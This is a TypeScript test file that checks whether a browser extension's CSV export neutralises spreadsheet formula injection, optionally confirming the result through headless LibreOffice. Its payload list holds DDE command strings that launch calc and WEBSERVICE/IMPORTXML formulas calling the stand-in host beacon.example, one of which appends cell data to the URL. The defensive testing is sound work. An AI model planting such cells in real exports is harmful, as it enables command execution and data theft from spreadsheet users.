/**
 * T29: five hundred hostile cells of an exported table, as a spreadsheet takes them. The rules by which spreadsheets take a cell for a formula are written down here and
 * hold everywhere; where LibreOffice is installed it reads the same table as well, and shows that the rules know every formula that it knows.
 */
import { execFile, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { csvFormat, unguardCell } from '../../extension/core/saved/formats/csv.ts';
import { type ExportFrame, writeWhole } from '../../extension/core/saved/formats/format.ts';
import type { SavedClaim } from '../../extension/core/saved/saved-claim.ts';
import { unorderedClaim } from '../platform/saved-claims.ts';
import { readCsv } from './read-csv.ts';

const FORMULAS = [
  '=1+1',
  '=SUM(A1:A2)',
  '=HYPERLINK("http://beacon.example","Report")',
  '=WEBSERVICE("http://beacon.example/"&A1)',
  "=cmd|' /C calc'!A0",
  '={1;2}',
  '==1',
  '=',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+44 20 7946 0000',
  '-1+1',
  '-5',
  '-SUM(A1)',
  '@SUM(1+1)',
  '@x',
  '=-1',
  '+-1',
  '-+1',
  '+=1',
  '＝1+1',
  '＝SUM(A1)',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=DDE("a";"b";"c")',
  '=IMPORTXML("http://beacon.example","//a")',
  '=1,=2',
  '="a""b"',
];
/** What may stand before a formula and be passed over by a spreadsheet, or by whoever pastes the cell. */
const BEFORE = [
  '',
  ' ',
  '  ',
  '\u00A0',
  '\u2003',
  '\u3000',
  '\t',
  '\n',
  '\r\n',
  '\r',
  '\u200B',
  '\uFEFF',
  '\u2060',
  '\u202E',
  '\u00AD',
  '\u0001',
  "'",
  "''",
];
const CELLS = FORMULAS.flatMap((formula) => BEFORE.map((before) => before + formula));

/**
 * Where Excel, LibreOffice, Google Sheets or Numbers begin a formula: at = + - @ or, in a Far Eastern setting, their full-width forms, first in the cell or behind
 * blanks and characters that are not seen; and a tab or a line's end first in a cell may be taken for the next cell's beginning.
 */
const isFormula = (cell: string): boolean => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell);

const FRAME: ExportFrame = { exportedAt: '2026-01-02T03:04:05.006Z', rejections: [], settings: null };
/** Hostile cells in every column that holds words of others. */
const claims = Array.from({ length: Math.ceil(CELLS.length / 5) }, (_, n): SavedClaim => {
  const [text = '', note = '', title = '', speaker = '', outlet = ''] = CELLS.slice(n * 5, n * 5 + 5);
  const claim = unorderedClaim(`c${n}`);
  return { ...claim, sequence: n + 1, text, note, speaker: { id: null, text: speaker }, page: { ...claim.page, title, outlet } };
});
const TABLE = writeWhole(csvFormat, claims, FRAME);
const column = (name: string): number => readCsv(TABLE)[0]!.indexOf(name);
const hostileOf = (row: readonly string[]): readonly string[] =>
  ['words', 'note', 'page title', 'speaker', 'outlet'].map((name) => row[column(name)] ?? '');

describe('T29: five hundred cells of an exported table', () => {
  it('are five hundred, each a formula before it is written', () => {
    expect(new Set(CELLS).size).toBeGreaterThanOrEqual(500);
    expect(CELLS.filter((cell) => !isFormula(cell.replace(/^'+/, '')))).toEqual([]);
  });

  it('are no formula by the rules of any spreadsheet, and come back as they were', () => {
    const [, ...rows] = readCsv(TABLE);
    expect(rows.flat().filter(isFormula)).toEqual([]);
    expect(rows.flatMap((row) => hostileOf(row).map(unguardCell)).slice(0, CELLS.length)).toEqual(CELLS);
  });
});

const OFFICE = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0);
const folder = mkdtempSync(join(tmpdir(), 'second-source-table-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** How LibreOffice reads: comma, double quotes, UTF-8, from line 1, nothing special about quoted cells, numbers and formulas made of whatever looks like one. */
const READING = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
/** How it writes a table: cells that are text in quotes, and no others. */
const AS_TABLE = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,true';
/** Its own form, which says of each cell whether it is a formula. */
const AS_OWN = 'fods';

/** The table as LibreOffice writes it again after reading it. */
const throughOffice = async (office: string, form: string, table: string): Promise<string> => {
  const [source, target] = [join(folder, 'table.csv'), join(folder, 'read')];
  writeFileSync(source, table);
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
  await promisify(execFile)(office, [profile, '--headless', `--infilter=${READING}`, '--convert-to', form, '--outdir', target, source]);
  return readFileSync(join(target, `table.${form.slice(0, form.indexOf(':') >>> 0)}`), 'utf8');
};

/** Numbers of the rows whose first cell is a formula. */
const formulasIn = (own: string): readonly number[] =>
  [...own.matchAll(/<table:table-row\b[^>]*>\s*<table:table-cell\b([^>]*)>/g)].flatMap(([, cell = ''], row) =>
    cell.includes('table:formula=') ? [row] : [],
  );

/** Line ends as LibreOffice keeps them, and without what XML, its memory, cannot hold. */
const asKept = (cell: string): string => cell.replaceAll(/\r\n?/g, '\n').replaceAll('\u0001', '');

// Always one of the two: which one is told, and neither is passed over in silence.
if (OFFICE === undefined)
  it('T29: no LibreOffice is here: the rules above have the last word', () => {
    process.stdout.write('T29: no LibreOffice here, the table was judged by the rules of spreadsheets alone\n');
    expect(OFFICE).toBeUndefined();
  });
else
  describe('T29: through LibreOffice', { timeout: 180_000 }, () => {
    it('the rules know every formula that it knows', async () => {
      const raw = CELLS.map((cell, row) => `"${cell.replaceAll('"', '""')}","${row}"\r\n`).join('');
      const formulas = formulasIn(await throughOffice(OFFICE, AS_OWN, raw));
      // Written without a guard they are formulas there: the table below could fail.
      expect(formulas.length).toBeGreaterThan(5);
      expect(formulas.map((row) => CELLS[row]).filter((cell) => !isFormula(cell ?? ''))).toEqual([]);
    });

    it('no cell of the table is a formula, all are text, and come back as they were', async () => {
      expect(await throughOffice(OFFICE, AS_OWN, TABLE)).not.toContain('table:formula=');
      const read = await throughOffice(OFFICE, AS_TABLE, TABLE);
      const [, ...rows] = readCsv(read);
      const back = rows.flatMap((row) => hostileOf(row).map(unguardCell));
      expect(back.slice(0, CELLS.length).map(asKept)).toEqual(CELLS.map(asKept));
      // What is not in quotes is no text there: dates and counts of ours alone.
      const bare = read.replaceAll(/"(?:[^"]|"")*"/g, '').split(/[,\n]/);
      expect(bare.filter((cell) => !/^[\d:.TZ/-]*$/.test(cell))).toEqual([]);
      process.stdout.write(`T29: ${CELLS.length} cells through LibreOffice, all text\n`);
    });
  });
